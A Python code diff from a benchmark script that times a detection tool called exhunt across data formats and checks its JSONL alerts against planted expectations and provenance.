+    measured: list[tuple[str, float, Measure, Measure]] = []
     for fmt in formats:
         folder = out / fmt
-        size = sum(p.stat().st_size for p in folder.iterdir()) / 1e6
+        size = sum(p.stat().st_size for p in folder.rglob("*") if p.is_file()) / 1e6
         scans: list[Measure] = []
         runs: list[Measure] = []
-        alerts_file = out / f"alerts-{fmt}.jsonl"
         for _ in range(repeat):
             scans.append(measure([sys.executable, __file__, "--scan", fmt, str(folder)]))
             chosen = [arg for r in rules for arg in ("--rules", r)]
             runs.append(measure([*_exhunt(), "detect", str(folder), *chosen, "-f", "jsonl", "--flat", "-q"],
-                                stdout=alerts_file))
-        s = sorted(scans, key=lambda m: m.wall)[len(scans) // 2]
-        r = sorted(runs, key=lambda m: m.wall)[len(runs) // 2]
-        got, n_alerts, wrong = _check(alerts_file, rows, fmt)
-        found = "exact" if got == want else f"MISMATCH {len(got)} vs {len(want)} planted"
-        found += ", provenance exact" if not wrong else f", {len(wrong)} provenance WRONG"
-        ok &= got == want and not wrong and r.rc in (0, 1)
+                                stdout=out / f"alerts-{fmt}.jsonl"))
+        measured.append((fmt, size, sorted(scans, key=lambda m: m.wall)[len(scans) // 2],
+                         sorted(runs, key=lambda m: m.wall)[len(runs) // 2]))
+    # judged after every measurement: the judge loads exhunt, which would swell the children's peak RSS
+    header = f"{'format':8} {'size MB':>8} {'scan s':>7} {'scan MB':>8} {'detect s':>9} {'rows/s':>10} " \
+             f"{'peak MB':>8} {'tree MB':>8} {'ratio':>6} alerts"
+    print(header)
+    ok = True
+    for fmt, size, s, r in measured:
+        res = judge_alerts(out / f"alerts-{fmt}.jsonl", fmt, out, rules)
+        judged = [v for v in res.verdicts if v.applies]
+        found = ("exact" if not res.failed else f"{len(res.failed)} FAILED") + \
+                f" ({len(judged) - len(res.failed)}/{len(judged)} expectations pass, {res.on_noise} on noise hosts)"
+        found += ", provenance exact" if not res.wrong else f", {len(res.wrong)} provenance WRONG"
+        ok &= not res.failed and not res.wrong and r.rc in (0, 1)
         print(f"{fmt:8} {size:8.0f} {s.wall:7.2f} {s.rss_mb:8.0f} {r.wall:9.2f} {total / r.wall:10,.0f} "
-              f"{r.rss_mb:8.0f} {r.tree_mb:8.0f} {r.wall / s.wall:6.2f} seed {len(got)}/{len(want)} {found}; "
-              f"{n_alerts} alert(s) in all")
-        if got != want:
-            print(f"  missing: {sorted(want - got)}\n  extra: {sorted(got - want)}")
-        for w in wrong[:10]:
+              f"{r.rss_mb:8.0f} {r.tree_mb:8.0f} {r.wall / s.wall:6.2f} {found}; {res.alerts} alert(s) in all")
+        for v in res.failed[:10]:
+            print(f"  {v.scenario}: {v.text}")
+        for w in res.wrong[:10]:
             print(f"  {w}")
     return ok
 
